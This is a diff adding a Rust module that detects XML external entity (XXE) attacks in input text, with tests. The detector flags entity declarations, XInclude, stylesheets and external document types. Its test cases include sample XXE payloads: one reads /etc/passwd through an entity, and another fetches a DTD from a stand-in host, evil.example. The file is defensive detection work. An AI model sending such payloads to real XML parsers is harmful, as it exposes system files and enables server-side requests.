@@ -1,0 +1,94 @@
+//! Entities of XML: would a parser fetch, read or multiply something for the sender?
+
+use super::{Hit, Text};
+use crate::decision::Class;
+
+pub(super) fn detect(text: &Text<'_>) -> Option<Hit> {
+    if !text.bytes.has(b'<') {
+        return None;
+    }
+    let lower = text.lower;
+    let hit = |at: usize, why: &'static str| Some(Hit { class: Class::Xxe, at, why: why.into() });
+    for (mark, why) in [
+        (&b"<!entity"[..], "an entity that the document defines itself"),
+        (b"<xi:include", "a document that includes another"),
+        (b"<?xml-stylesheet", "a stylesheet that the document brings along"),
+        (b"<xsl:stylesheet", "a program in XSLT"),
+        (b"<xsl:transform", "a program in XSLT"),
+    ] {
+        if let Some(at) = memchr::memmem::find(lower, mark) {
+            if mark != b"<?xml-stylesheet" || memchr::memmem::find(lower, b"href").is_some() {
+                return hit(at, why);
+            }
+        }
+    }
+    for at in memchr::memmem::find_iter(lower, b"<!doctype") {
+        let rest = lower.get(at + 9..).unwrap_or_default();
+        let head = rest.get(..512).unwrap_or(rest);
+        let declaration = head.split(|b| *b == b'>').next().unwrap_or_default();
+        let html = declaration.trim_ascii().starts_with(b"html");
+        let external =
+            [&b" system"[..], b" public"].iter().any(|w| memchr::memmem::find(declaration, w).is_some());
+        let w3c = memchr::memmem::find(declaration, b"-//w3c//").is_some()
+            || memchr::memmem::find(declaration, b"www.w3.org").is_some();
+        if external && !(html && w3c) && !w3c {
+            return hit(at, "a document type from elsewhere");
+        }
+    }
+    for mark in [
+        &b"schemalocation=\""[..],
+        b"schemalocation='",
+        b"xlink:href=\"file:",
+        b"href=\"file:",
+        b"href='file:",
+    ] {
+        for at in memchr::memmem::find_iter(lower, mark) {
+            let value = lower.get(at + mark.len()..).unwrap_or_default();
+            let value = value.split(|b| matches!(b, b'"' | b'\'')).next().unwrap_or_default();
+            let places: Vec<&[u8]> = value.split(|b| b.is_ascii_whitespace()).collect();
+            let file = mark.ends_with(b"file:") || places.iter().any(|p| p.starts_with(b"file:"));
+            // One address alone is where to fetch from; pairs name a namespace first.
+            let foreign =
+                memchr::memmem::find(lower.get(at.saturating_sub(64)..at).unwrap_or_default(), b"import")
+                    .is_some()
+                    && value.starts_with(b"http");
+            if file || foreign {
+                return hit(at, "a schema or picture that the parser reads from elsewhere");
+            }
+        }
+    }
+    None
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::inject::sample;
+
+    #[test]
+    fn documents_that_reach_out() {
+        for text in [
+            "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
+            "<!DOCTYPE r SYSTEM \"http://evil.example/x.dtd\"><r/>",
+            "<!DOCTYPE x SYSTEM \"//x/x\" > <x>a</x>",
+            "<r xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"x\"/></r>",
+            "<r xsi:noNamespaceSchemaLocation=\"file:///etc/passwd\"/>",
+        ] {
+            assert!(sample(detect, text), "{text}");
+        }
+    }
+
+    #[test]
+    fn documents_that_stay() {
+        for text in [
+            "<!DOCTYPE html><html><p>Hi</p></html>",
+            "<?xml version=\"1.0\"?><order id=\"7\"/>",
+            "<r a='1'><!-- DOCTYPE not used here --></r>",
+            "<config><include name=\"common\"/><entity type=\"c\"/></config>",
+            "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\"><html/>",
+            "<p xsi:schemaLocation=\"http://maven.apache.org/POM/4.0.0 http://maven.apache.org/xsd/maven-4.0.0.xsd\"/>",
+        ] {
+            assert!(!sample(detect, text), "{text}");
+        }
+    }
+}
